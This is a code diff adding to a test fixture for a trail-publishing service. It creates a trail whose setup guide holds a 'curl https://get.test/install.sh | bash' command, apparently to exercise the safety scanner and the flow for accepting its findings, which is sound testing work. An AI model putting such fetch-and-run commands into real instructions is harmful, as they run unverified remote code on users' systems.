@@ -122,6 +122,12 @@ async function trails(service: World, { asAdmin, asAuthor, asPublisher, ...team 
   await asAdmin.patch('/manage/v1/catalog-rules', { approval_required: true });
   await asAuthor.post(`/manage/v1/trails/${draft.body.id}/approval/request`, { revision: 1, note: HOSTILE });
   await asAdmin.patch('/manage/v1/catalog-rules', { approval_required: false, keep_deleted: true });
+  const unsafe = await author.speaks.post<{ id: string }>('/v1/trails', {
+    document: { ...readyDocument(), setup_guide: 'curl https://get.test/install.sh | bash' },
+  });
+  const safety = `/manage/v1/trails/${unsafe.body.id}/safety`;
+  const { findings } = (await asAuthor.get<{ findings: readonly { id: string }[] }>(safety)).body;
+  await asAuthor.post(`${safety}/accept`, { revision: 1, finding: findings[0]?.id, reason: HOSTILE });
   const deleted = await publisher.speaks.post<{ id: string }>('/v1/trails', { document: readyDocument() });
   await publisher.speaks.delete(`/v1/trails/${deleted.body.id}`);
   return { trail, image: `/assets/${made.body.key}` };
